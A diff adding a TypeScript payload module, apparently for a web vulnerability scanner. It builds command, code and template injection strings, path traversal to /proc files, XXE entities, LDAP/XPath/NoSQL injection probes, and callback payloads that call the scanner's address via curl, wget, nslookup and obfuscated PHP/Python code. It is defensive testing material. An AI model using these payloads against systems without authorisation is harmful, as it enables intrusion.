@@ -1,0 +1,331 @@
+/** Every payload of this module, as tables: a test holds each against the rules of harmless.ts. */
+import type { HttpRequest } from '../../../egress/door/egress.ts'
+
+/** Where the product of two numbers has to appear. `v` is the value that stood there. */
+export interface Reckoning {
+  readonly flavour: string
+  readonly with: (v: string, a: number, b: number) => string
+  /** What the interpreter makes of it. */
+  readonly expected: (a: number, b: number) => string
+}
+
+const plain = (a: number, b: number): string => String(a * b)
+const marked = (a: number, b: number): string => `qv${a * b}vq`
+const echo = (a: number, b: number): string => `echo qv$((${a}*${b}))vq`
+
+/** One text for a place outside quotes, in double and in single quotes: each comes to run exactly one of its three parts. */
+const everywhere = (separator: string, command: string): string => {
+  const run = `${separator}${command}${separator}`
+  return `${run}"${run}"'${run}'`
+}
+
+/** Where a line break cannot go, a semicolon alone; `needs` says what the place has to hold, or that the server says it is Windows. */
+export const COMMANDS: readonly (Reckoning & { readonly needs?: 'line break' | 'no line break' | 'windows' })[] = [
+  {
+    // Arithmetic of the shell needs no separator: the first part is read without quotes and in ", the second in '.
+    flavour: 'shell, $(())',
+    with: (v, a, b) => `${v}qv$((${a}*${b}))vq'qv$((${a}*${b}))vq'`,
+    expected: marked,
+  },
+  {
+    flavour: 'shell, ; or line break',
+    needs: 'line break',
+    with: (v, a, b) => `${v}${everywhere(';\n', echo(a, b))}`,
+    expected: marked,
+  },
+  {
+    flavour: 'shell, ;',
+    needs: 'no line break',
+    with: (v, a, b) => `${v}${everywhere(';', echo(a, b))}`,
+    expected: marked,
+  },
+  {
+    // cmd.exe prints what it works out; to it ' is a letter like any other.
+    flavour: 'cmd.exe, &',
+    needs: 'windows',
+    with: (v, a, b) => `${v}${everywhere('&', `set /a ${a}*${b}`)}`,
+    expected: plain,
+  },
+]
+
+export const COMMAND_WAITS: readonly {
+  readonly flavour: string
+  readonly with: (v: string, seconds: string) => string
+}[] = [
+  {
+    // Of the two only one is run: without quotes and in " the second finds q set, in ' the first is text.
+    flavour: 'shell, $()',
+    with: (v, s) => `${v}\${q=$(sleep ${s})}'\${q=$(sleep ${s})}'`,
+  },
+]
+
+/** Holds within single and within double quotes: what is code in the one is text in the other. */
+const inQuotes = (v: string, code: string): string => `${v}'${code}'"${code}"`
+
+/** `[x][0]` is x in JavaScript, Python, Ruby and PHP, and nothing in SQL. */
+export const CODE: readonly (Reckoning & { readonly quoted: boolean })[] = [
+  { flavour: 'expression', quoted: false, with: (_v, a, b) => `[${a}*${b}][0]`, expected: plain },
+  { flavour: 'JavaScript text', quoted: true, with: (v, a, b) => inQuotes(v, `+[${a}*${b}][0]+`), expected: plain },
+  { flavour: 'Python text', quoted: true, with: (v, a, b) => inQuotes(v, `+str([${a}*${b}][0])+`), expected: plain },
+  { flavour: 'Perl or PHP text', quoted: true, with: (v, a, b) => inQuotes(v, `.(${a}*${b}).`), expected: plain },
+]
+
+export const TEMPLATES: readonly Reckoning[] = [
+  { flavour: '{{…}} (Jinja2, Twig, Nunjucks)', with: (_v, a, b) => `{{${a}*${b}}}`, expected: plain },
+  {
+    flavour: 'dollar and braces (FreeMarker, Mako, expression language)',
+    with: (_v, a, b) => `\${${a}*${b}}`,
+    expected: plain,
+  },
+  { flavour: '<%=…%> (ERB, EJS)', with: (_v, a, b) => `<%=${a}*${b}%>`, expected: plain },
+  { flavour: '#{…} (Pug, Ruby)', with: (_v, a, b) => `#{${a}*${b}}`, expected: plain },
+  { flavour: '{…} (Smarty)', with: (_v, a, b) => `{${a}*${b}}`, expected: plain },
+  { flavour: '@(…) (Razor)', with: (_v, a, b) => `@(${a}*${b})`, expected: plain },
+]
+
+/** No engine can read this, whichever of them looks at it. */
+export const BROKEN_TEMPLATE = `<%=(%>{{(}}\${(}#{(}{(}`
+
+/** Waits in the language of an engine, for templates whose result nobody sees. */
+export const TEMPLATE_WAITS: readonly {
+  readonly flavour: string
+  readonly with: (v: string, seconds: string) => string
+}[] = [
+  { flavour: '<%=…%> (ERB)', with: (v, s) => `${v}<%=sleep(${s})%>` },
+  {
+    flavour: '<%=…%> (EJS)',
+    with: (v, s) => `${v}<%=Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0,${ms(s)})%>`,
+  },
+  { flavour: 'dollar and braces (Mako)', with: (v, s) => `${v}\${__import__('time').sleep(${s})}` },
+  { flavour: 'dollar and braces (Spring)', with: (v, s) => `${v}\${T(java.lang.Thread).sleep(${ms(s)})}` },
+  { flavour: '{{…}} (Blade)', with: (v, s) => `${v}{{usleep(${ms(s)}000)}}` },
+]
+
+const ms = (seconds: string): string => String(Math.round(Number(seconds) * 1_000))
+
+/** Deeper than applications lie: where one lies deeper still, the way ends in a folder that is not there. */
+const LEVELS = 12
+const UP = '../'.repeat(LEVELS)
+
+/** Ways to a file of the machine. `path` begins with a slash. */
+export const PATHS: readonly {
+  readonly flavour: string
+  /** 'deep': only where the value or the name speaks of files; 'apart': then, too, but not in a group of headers and cookies. */
+  readonly tried: 'always' | 'deep' | 'apart'
+  readonly with: (v: string, path: string) => string
+}[] = [
+  // Begins at the root and behind any folder alike.
+  { flavour: '/../', tried: 'always', with: (_v, path) => `/${UP}${path.slice(1)}` },
+  { flavour: '../', tried: 'deep', with: (_v, path) => `${UP}${path.slice(1)}` },
+  { flavour: '../ behind the value', tried: 'apart', with: (v, path) => `${v}/${UP}${path.slice(1)}` },
+  {
+    flavour: '../ behind its folder',
+    tried: 'apart',
+    with: (v, path) => `${v.replace(/[^/]*$/, '')}${UP}${path.slice(1)}`,
+  },
+  {
+    flavour: '….//, for filters that cut once',
+    tried: 'apart',
+    with: (_v, path) => `${'....//'.repeat(LEVELS)}${path.slice(1)}`,
+  },
+  {
+    flavour: '../ encoded twice',
+    tried: 'apart',
+    with: (_v, path) => `${'..%2f'.repeat(LEVELS)}${path.slice(1).replaceAll('/', '%2f')}`,
+  },
+  { flavour: 'file address', tried: 'apart', with: (_v, path) => `file://${path}` },
+]
+
+/** Our address with numbers for what its answer becomes where it is run; an address alone to everything else. */
+export const inclusion = (url: string, a: number, b: number): string => `${url}q.php?a=${a}&b=${b}`
+
+/** What running the answer to that address shows; null where the text is another. */
+export const included = (payload: string): string | null => {
+  const [, a, b] = /q\.php\?a=(\d+)&b=(\d+)$/.exec(payload) ?? []
+  return a && b ? `qv${Number(a) * Number(b)}vq` : null
+}
+
+/** The shell works the product out before the call; without a domain the call is a request. */
+export const callingCommand = (
+  v: string,
+  { host, url }: { readonly host: string | null; readonly url: string },
+  a: number,
+  b: number,
+): string => {
+  const name = `qv$((${a}*${b})).${host}`
+  const path = `${url}qv$((${a}*${b}))`
+  const call = host === null ? `curl -m 3 ${path}||wget -T 3 -O - ${path}` : `getent hosts ${name}||nslookup ${name}`
+  return `${v}$(${call})'$(${call})'`
+}
+
+/** Code that calls an address of ours and takes a product along, for results that nobody sees. */
+export interface CallingCode {
+  readonly flavour: string
+  readonly with: (address: { readonly host: string | null; readonly url: string }, a: number, b: number) => string
+}
+
+/** The product stands in the name, too: where only names leave the network, that call arrives. */
+const calledAt = ({ host, url }: { readonly host: string | null; readonly url: string }): readonly [string, string] =>
+  host === null ? [`${url}qv`, ''] : ['http://qv', `.${host}${url.slice(url.indexOf(host) + host.length)}`]
+
+/** Numbers of the characters: within either kind of quotes the code is text, and ends none. */
+const codes = (text: string): string => [...text].map((char) => char.charCodeAt(0)).join(',')
+
+/** Without quotes, in single and in double quotes: `code` stands in each as code once, and as text or comment otherwise. */
+const anywhere = (code: string, joined: string, comment: 'line' | 'block'): string => {
+  const quoted = `'${joined}'"${joined}"`
+  return comment === 'line' ? `${code}#${quoted}` : `${code}/*${quoted}*/`
+}
+
+export const CALLING_CODE: readonly CallingCode[] = [
+  {
+    // A promise that nobody looks after would end the process when it fails.
+    flavour: 'JavaScript',
+    with: (address, a, b) => {
+      const code = `${'fetch'}(\`${calledAt(address).join(`\${${a}*${b}}`)}\`).catch(()=>0)`
+      return anywhere(code, `+${code}+`, 'block')
+    },
+  },
+  {
+    flavour: 'PHP',
+    with: (address, a, b) => {
+      const text = (plain: string): string =>
+        plain === '' ? '' : `join(array_map(chr(99).chr(104).chr(114),[${codes(plain)}]))`
+      const [before, behind] = calledAt(address)
+      const url = `${text(before)}.(${a}*${b})${behind === '' ? '' : `.${text(behind)}`}`
+      const code = `file_get_contents(${url},false,stream_context_create([${text('http')}=>[${text('timeout')}=>3]]))`
+      return anywhere(code, `.${code}.`, 'block')
+    },
+  },
+  {
+    flavour: 'Python',
+    with: (address, a, b) => {
+      const text = (plain: string): string => (plain === '' ? 'str()' : `bytes((${codes(plain)},)).decode()`)
+      const [before, behind] = calledAt(address)
+      const url = `${text(before)}+str(${a}*${b})+${text(behind)}`
+      const code = `__import__(${text('urllib.request')}).request.urlopen(${url},None,3)`
+      return anywhere(code, `+str(${code})+`, 'line')
+    },
+  },
+  {
+    flavour: 'Perl',
+    with: (address, a, b) => {
+      const [before, behind] = calledAt(address)
+      const code = `((require HTTP::Tiny)&&HTTP::Tiny->new(timeout,3)->get(q(${before}).(${a}*${b}).q(${behind})))`
+      return anywhere(code, `.${code}.`, 'line')
+    },
+  },
+]
+
+/** Both ways of a parser to our address: a part of the document type, and an entity in place of the value. */
+export const callingEntity =
+  (url: string) =>
+  (request: HttpRequest): HttpRequest => {
+    const body = String(request.body ?? '')
+    const declaration = /^\s*<\?xml[^>]*\?>/.exec(body)?.[0] ?? ''
+    const rest = body
+      .slice(declaration.length)
+      .replace(/<!DOCTYPE[^[>]*(?:\[[^\]]*\])?>/, '')
+      .replace(/>http[^<]*q\.php\?[^<]*</, '>&q;<')
+    const type = `<!DOCTYPE q [<!ENTITY % r SYSTEM "${url}q.dtd"><!ENTITY q SYSTEM "${url}q">%r;]>`
+    return { ...request, body: `${declaration}${type}${rest}` }
+  }
+
+/**
+ * Everyone may read these, and they tell no more than which system it is. They are the kernel's own (proc(5)): whatever the
+ * place does with a name, nobody can write, empty, rename or delete them, root included, nor make a file beside them, as
+ * NO_FILE would be.
+ */
+export const FILES: readonly { readonly path: string; readonly shows: RegExp }[] = [
+  { path: '/proc/version', shows: /Linux version \d+\.\d+[^\n]{0,80}/ },
+  { path: '/proc/filesystems', shows: /\bnodev\s+(?:sysfs|proc|tmpfs|devtmpfs|cgroup2?)\b/ },
+]
+export const NO_FILE = '/proc/versioq'
+
+/** The document with an entity that is a file, and a reference to it where the value stood. */
+export const withEntity = (body: string, path: string): string => {
+  const declaration = /^\s*<\?xml[^>]*\?>/.exec(body)?.[0] ?? ''
+  const rest = body.slice(declaration.length).replace(/<!DOCTYPE[^[>]*(?:\[[^\]]*\])?>/, '')
+  return `${declaration}<!DOCTYPE q [<!ENTITY q SYSTEM "file://${path}">]>${rest}`
+}
+
+export interface Question {
+  readonly text: string
+  readonly truth: boolean
+}
+
+/** How questions are put to one kind of language. */
+export interface Questioner {
+  readonly kind: 'ldap' | 'xpath' | 'nosql'
+  readonly flavour: string
+  /** Put only where a condition behind text in this quote left the page as it is. */
+  readonly quote?: "'" | '"'
+  readonly with: (v: string, question: string) => string
+  readonly ask: (truth: boolean, word: string) => string
+  readonly malformed: string
+}
+
+/** string-length is no function of SQL, so a database cannot answer these. */
+const length = (truth: boolean, word: string): string => `string-length('${word}')=${word.length + (truth ? 0 : 1)}`
+/** Neither are these. */
+const script = (truth: boolean, word: string): string => `'${word}'.length==${word.length + (truth ? 0 : 1)}`
+
+export const QUESTIONERS: readonly Questioner[] = [
+  {
+    kind: 'xpath',
+    flavour: "text in '",
+    quote: "'",
+    with: (v, q) => `${v}' and ${q} and 'q'='q`,
+    ask: length,
+    malformed: '1 1=',
+  },
+  {
+    kind: 'xpath',
+    flavour: 'text in "',
+    quote: '"',
+    with: (v, q) => `${v}" and ${q} and "q"="q`,
+    ask: (truth, word) => length(truth, word).replaceAll("'", '"'),
+    malformed: '1 1=',
+  },
+  {
+    kind: 'ldap',
+    flavour: 'filter',
+    with: (v, q) => `${v})(${q}`,
+    ask: (truth, word) =>
+      word.length % 2 === 0
+        ? truth
+          ? 'objectClass=*'
+          : `objectClass=${word}`
+        : truth
+          ? `!(objectClass=${word})`
+          : '!(objectClass=*)',
+    malformed: '(((',
+  },
+  {
+    kind: 'nosql',
+    flavour: "JavaScript in '",
+    with: (v, q) => `${v}'&&${q}&&'q'=='q`,
+    ask: script,
+    malformed: '1 1==',
+  },
+  {
+    kind: 'nosql',
+    flavour: 'JavaScript in "',
+    with: (v, q) => `${v}"&&${q}&&"q"=="q`,
+    ask: (truth, word) => script(truth, word).replaceAll("'", '"'),
+    malformed: '1 1==',
+  },
+]
+
+/** Beginnings of values that are objects of a language, written out. */
+export const SERIALIZED: readonly (readonly [format: string, pattern: RegExp])[] = [
+  ['Java object', /^(?:rO0AB|aced0005)/],
+  ['PHP object', /^(?:O:\d{1,3}:"[\w\\]+":\d+:\{|a:\d+:\{.*O:\d{1,3}:")/],
+  ['.NET BinaryFormatter object', /^AAEAAAD\/{5}/],
+  ['Python pickle', /^(?:gA[SJ]V|KGRwM|Y29we|Y3Bvc2l4)/],
+  ['Ruby Marshal object', /^BAh[bvu7JIi]/],
+  ['JSON that names a class', /^\s*\{\s*"(?:\$type|@type|@class)"\s*:\s*"[\w.$+]+[.$][\w.$+, =]+"/],
+  ['YAML that names a class', /^\s*!!(?:python\/|ruby\/|[a-z]+\.[a-z]+\.)/],
+  ['XMLDecoder document', /^\s*(?:<\?xml[^>]*\?>\s*)?<java\s[^>]*class="java\.beans\.XMLDecoder"/],
+  ['Node.js serialised function', /_\$\$ND_FUNC\$\$_/],
+]
